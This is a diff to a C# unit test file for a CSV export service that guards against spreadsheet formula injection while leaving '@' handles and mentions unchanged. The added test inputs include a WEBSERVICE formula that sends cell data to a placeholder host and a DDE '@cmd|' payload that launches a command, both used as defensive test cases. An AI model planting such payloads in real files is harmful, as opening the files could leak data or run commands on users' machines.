@@ -23,7 +23,7 @@ public sealed class PostExportServiceTests(BulkFixture fixture) : IClassFixture<
         Assert.Equal(PostExportService.CsvHeader, records[0].Fields);
         var row = records.Single(r => r.Fields[0] == post.Id.ToString(System.Globalization.CultureInfo.InvariantCulture)).Fields;
         Assert.Equal(text, row[1]);
-        Assert.Equal("'@team · sandbox", row[2]); // a handle starts with @, so the formula guard applies
+        Assert.Equal("@team · sandbox", row[2]); // a handle is not a formula: no apostrophe
         Assert.Equal("Scheduled", row[3]);
         Assert.Equal($"{Y}-04-02T08:15:00+00:00", row[4]);
         Assert.Equal($"{Y}-04-02T08:15:00Z", row[5]);
@@ -35,6 +35,9 @@ public sealed class PostExportServiceTests(BulkFixture fixture) : IClassFixture<
     [InlineData("+1+1")]
     [InlineData("-2+3")]
     [InlineData("@SUM(A1)")]
+    [InlineData("@SUM(1)")]
+    [InlineData("@x WEBSERVICE(\"http://x/\"&A1)")]
+    [InlineData("@cmd|' /C calc'!A0")]
     public async Task PostsCsv_FormulaLikeText_GetsALeadingApostrophe(string formula)
     {
         var post = (await fixture.Harness.ComposeAsync(formula, ComposeMode.SaveDraft)).Value;
@@ -52,7 +55,18 @@ public sealed class PostExportServiceTests(BulkFixture fixture) : IClassFixture<
         Assert.Equal("\"a,b\"", CsvWriter.Cell("a,b"));
         Assert.Equal("\"say \"\"hi\"\"\"", CsvWriter.Cell("say \"hi\""));
         Assert.Equal("\"'=1,2\"", CsvWriter.Cell("=1,2"));
+        Assert.Equal("'\t=1+1", CsvWriter.Cell("\t=1+1"));
         Assert.Equal("", CsvWriter.Cell(null));
+    }
+
+    [Theory]
+    [InlineData("@team · sandbox")]
+    [InlineData("@alice.bsky.social · bluesky")]
+    [InlineData("@alice@mastodon.social · mastodon")]
+    [InlineData("@alice thanks for coming!")]
+    public void Cell_HandleOrMention_IsKeptAsItIs(string text)
+    {
+        Assert.Equal(text, CsvWriter.Cell(text));
     }
 
     [Fact]
